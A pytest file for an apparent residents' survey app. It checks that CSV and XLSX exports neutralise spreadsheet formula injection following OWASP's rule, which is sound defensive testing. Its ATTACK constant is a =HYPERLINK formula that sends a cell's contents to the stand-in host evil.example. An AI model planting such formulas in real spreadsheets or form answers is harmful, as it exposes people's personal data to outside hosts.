"""Exports stay inert when staff open them in Excel or WPS.

Promises:
- in every CSV export, text starting with =, +, -, @, a tab or a carriage return gets a leading
  apostrophe (OWASP's CSV-injection rule); other text is unchanged;
- in every XLSX export (round reports, the Telegram /report document, pickup lists), text is a
  string cell, never a formula;
- real numbers stay numbers in both;
- a resident's answer such as =HYPERLINK(...) reaches the round's CSV and XLSX as inert text.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from config.clock import FakeClock
from config.exports import inert_text, to_csv, write_xlsx
from estate.importing.residents import import_residents
from surveys.models import Response
from surveys.pickups.store import load_lists, xlsx_bytes
from surveys.report import build_report
from surveys.runtime import SurveyRuntime
from tests.conftest import make_settings

ATTACK = '=HYPERLINK("http://evil.example/?"&A2,"点我")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    assert inert_text(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["阿莫西林", "3盒", "a=b", "", "1203室"])
def test_csv_ordinary_text_is_unchanged(value: str) -> None:
    assert inert_text(value) == value


def test_numbers_stay_numbers_in_csv_and_xlsx(tmp_path: Path) -> None:
    text = to_csv(["n", "x"], [[-3, -2.5], [0, None]])
    assert list(csv.reader(io.StringIO(text))) == [["n", "x"], ["-3", "-2.5"], ["0", ""]]
    buffer = io.BytesIO()
    write_xlsx(buffer, ["n", "x"], [[-3, -2.5]], "numbers")
    buffer.seek(0)
    sheet = load_workbook(buffer).active
    assert [(c.value, c.data_type) for c in sheet[2]] == [(-3, "n"), (-2.5, "n")]


def _formula_cells(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


def test_xlsx_text_is_never_a_formula() -> None:
    buffer = io.BytesIO()
    write_xlsx(buffer, ["=A1", "drug"], [[ATTACK, "+1"], ["@SUM(A1)", "-x"]], "round 1")
    assert _formula_cells(buffer.getvalue()) == []
    buffer.seek(0)
    sheet = load_workbook(buffer).active
    assert sheet["A2"].value == ATTACK and sheet["A2"].data_type != "f"


CSV_FILE = (
    "\ufeffbuilding,floor,room,name,phone,birth_year,channel,language,home_bound,notes\r\n"
    "7,12,1203室,张伯,136 0013 6000,1940,sms,,,\r\n"
)


async def test_a_residents_formula_answer_is_inert_in_every_round_export(
    db: str, tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    source.write_text(CSV_FILE, encoding="utf-8", newline="")
    await import_residents(source, estate_name="e", dry_run=False, region="CN")
    runtime = SurveyRuntime(clock=FakeClock(), settings=make_settings())
    opened = await runtime.open_round("medication", created_by="test")
    answers = {
        "needs_medicine": "yes",
        "medicines": [{"patient": ATTACK, "drug": ATTACK, "dose": "-1", "days_left": 2}],
        "urgency": "urgent",
    }
    await Response.filter(round_id=opened.round.id).update(status="answered", answers=answers)

    report = await build_report(opened.round.id)
    rows = list(csv.reader(io.StringIO(to_csv(report.columns, report.rows))))
    cells = [cell for row in rows for cell in row]
    assert "'" + ATTACK in cells
    assert ATTACK not in cells  # never the raw formula
    buffer = io.BytesIO()
    write_xlsx(buffer, report.columns, report.rows, "round")
    assert _formula_cells(buffer.getvalue()) == []

    pickup = xlsx_bytes(await load_lists(opened.round.id))
    assert _formula_cells(pickup) == []
